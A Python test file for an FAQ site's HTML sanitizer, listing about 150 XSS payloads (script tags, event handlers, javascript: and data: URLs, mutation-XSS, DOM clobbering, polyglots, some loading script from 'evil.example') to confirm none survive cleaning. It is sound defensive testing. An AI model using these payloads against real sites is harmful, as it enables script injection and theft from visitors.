"""No published way of smuggling script through HTML survives `clean`: what comes out is parsed, not searched.

`VECTORS` are the shapes that public collections list, written down here; other tests send them through forms, imports
and search.
"""

import base64
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from faq.html import ALLOWED, clean, shifted, text_of

_SCRIPT = base64.b64encode(b"<script>alert(1)</script>").decode()

# Each of these does something in some browser, or has done, when it is sent as it stands.
DANGEROUS = [
    # Script, plainly and in disguise.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src='https://evil.example/x.js'></script>",
    "<script\x0c>alert(1)</script\x0c>",
    "<script\n>alert(1)</script\t>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    "<script type=module>import('//evil.example/x.js')</script>",
    "<p>a</p><script>/*</p>*/alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"'><script>alert(1)</script>",
    # Events.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror\x0c=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x:x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=1 srcset='x 1x, javascript:alert(1) 2x' onload=alert(1)>",
    "<p onclick=alert(1)>Press me</p>",
    "<p/onmouseover='alert(1)'>Point at me</p>",
    "<strong onpointerenter=alert(1) style=display:block>x</strong>",
    "<a href=/ onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</option></select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
    "<td onclick=alert(1)>x</td>",
    "<h3 id=x tabindex=1 onfocusin=alert(1)>x</h3>",
    # Addresses.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert&lpar;1&rpar;'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='&#0000106avascript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='\u200bjavascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='livescript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    f"<a href='data:text/html;base64,{_SCRIPT}'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/\\evil.example/'>x</a>",
    "<a href='/\t/evil.example/'>x</a>",
    "<a href='\\\\evil.example\\x'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='https://clinic.example@evil.example/'>x</a>",
    "<a href='https://user:pass@evil.example/'>x</a>",
    "<a href=/ target=_blank ping=//evil.example/>x</a>",
    # Frames, objects, forms, and what changes the whole page.
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    f"<object type=text/html data='data:text/html;base64,{_SCRIPT}'></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=Evil.class></applet>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<bgsound src=javascript:alert(1)>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    # Styles.
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{x:expression(alert(1))}</style>",
    "<p style='x:expression(alert(1))'>x</p>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#x)'>x</p>",
    "<p style='position:fixed;inset:0'>Over all of the page</p>",
    "<p style='x:\\65xpression(alert(1))'>x</p>",
    # Drawings and formulas.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&lpar;1&rpar;</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text x=9 y=9>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#x xlink:href=javascript:alert(1)>x</maction></math>",
    # Text that becomes markup when it is parsed a second time.
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math></p><style><!--</style><img src/onerror=alert(1)>--></style></math>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<? foo='><script>alert(1)</script>'>",
    "<! foo='><script>alert(1)</script>'>",
    "</ foo='><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "<table><caption><svg><title><style></caption><img src=x onerror=alert(1)>",
    "<a href='/&quot;onmouseover=alert(1) x=&quot;'><img src=x onerror=alert(1)>x</a>",
    # Names that take the place of what the page's own script looks for.
    "<a id=cookie name=cookie href=/>x</a>",
    "<form name=body><input name=firstChild></form>",
    "<p id=getElementById>x</p>",
    "<img name=currentScript src=//evil.example/>",
    # Many at once.
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e",
    '\'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
    "<x onclick=alert(1)>x</x>",
    "<custom-element is=x onconnected=alert(1)></custom-element>",
    "<o:p onclick=alert(1)>x</o:p>",
]

# These need a page in another encoding, or a second decoding, to become anything; nobody here may decode them.
INERT = [
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00c0\u00bcscript\u00c0\u00beascript",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "javascript:alert(1)",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include 'x' %}{{ settings.SECRET_KEY }}",
    "' onmouseover=alert(1) x='",
    "]]>--></p>",
]

VECTORS = DANGEROUS + INERT


class _Inspector(HTMLParser):
    """Notes everything in a piece of HTML that an answer may not have. It knows the allow-list and no vector."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=False)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED:
            self.found.append(f"the element {tag}")
        for name, value in attrs:
            if name not in ALLOWED.get(tag, ()):
                self.found.append(f"the attribute {name} of {tag}")
            elif not _fits(name, value or ""):
                self.found.append(f"{name}={value!r}")

    def handle_data(self, data: str) -> None:
        if "<" in data:
            self.found.append(f"a bare bracket in {data!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"the comment {data!r}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def _fits(name: str, value: str) -> bool:
    if name == "href":
        return _leads_where_it_may(value)
    if name == "rel":
        return value == "noopener noreferrer"
    if name == "scope":
        return value in ("row", "col", "rowgroup", "colgroup")
    return value.isascii() and value.isdigit() and 1 <= int(value) <= 20


def _leads_where_it_may(href: str) -> bool:
    # As a browser reads it: no control characters, no white space, and a backslash is a slash.
    read = "".join(char for char in href if ord(char) > 32 and char.isprintable()).replace("\\", "/")
    if read.startswith("/"):
        return not read.startswith("//") and read == href
    parts = urlsplit(read)
    if parts.scheme in ("http", "https"):
        return bool(parts.netloc) and "@" not in parts.netloc
    return parts.scheme in ("mailto", "tel") and not parts.netloc


def dangers(html: str) -> list[str]:
    """What a reader's browser must not be sent, in words; empty for the HTML of an answer."""
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.found


def test_the_list_is_long_and_without_doubles():
    assert len(VECTORS) >= 120
    assert len(set(VECTORS)) == len(VECTORS)


@pytest.mark.parametrize("vector", DANGEROUS)
def test_the_inspector_refuses_each_attack_as_it_is_sent(vector):
    assert dangers(vector), "a test that cannot fail proves nothing"


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_an_attack_is_left(vector):
    assert dangers(clean(vector)) == []


@pytest.mark.parametrize(
    "around",
    ["<p>a {} b</p>", "<ul><li>{}</li></ul>", "<table><tr><td>{}</td></tr></table>", "<h3>{}</h3>", "<a href='/'>{}"],
)
def test_nothing_of_an_attack_is_left_within_an_answer(around):
    left = {vector: dangers(clean(around.replace("{}", vector))) for vector in VECTORS}
    assert not {vector: found for vector, found in left.items() if found}


def test_nothing_of_all_attacks_one_after_the_other_is_left():
    assert dangers(clean("".join(VECTORS))) == []
    assert dangers(clean("</p>".join(reversed(VECTORS)))) == []


@pytest.mark.parametrize("vector", VECTORS)
def test_cleaning_an_attack_twice_brings_nothing_back(vector):
    assert clean(clean(vector)) == clean(vector)


@pytest.mark.parametrize("vector", VECTORS)
def test_a_page_is_safe_even_where_an_attack_was_stored(vector):
    assert set(dangers(shifted(vector))) <= {
        "the element div",
        "the attribute class of div",
        "the attribute tabindex of div",
    }


@pytest.mark.parametrize("vector", VECTORS)
def test_the_text_of_an_attack_is_inert_once_it_is_escaped_as_text(vector):
    text = text_of(vector)
    assert "\x00" not in text
    assert dangers(clean(text)) == []


def test_an_attribute_in_an_address_stays_in_the_address():
    cleaned = clean("<a href='/x?a=&quot;onmouseover=alert(1)&quot;'>x</a><a href='/y?a=1&amp;onclick=2'>y</a>")
    assert cleaned == '<p>x<a href="/y?a=1&amp;onclick=2">y</a></p>'
    assert dangers(cleaned) == []


@pytest.mark.parametrize(
    "html",
    [
        "<p>Text</p>",
        '<p><a href="/faq/">Site</a> <a href="https://a.example/" rel="noopener noreferrer">Other</a></p>',
        '<table><tr><th scope="col" colspan="2">x</th></tr></table>',
        "<p>1 &lt; 2 &amp; 3</p>",
    ],
)
def test_the_inspector_lets_an_answer_pass(html):
    assert dangers(html) == []


def test_the_last_word_is_not_ours(monkeypatch):
    """A slip of the writer would still meet nh3."""
    monkeypatch.setattr("faq.html.html_of", lambda root: "<p onclick=alert(1)>x</p><script>alert(1)</script>")
    assert clean("x") == "<p>x</p>"
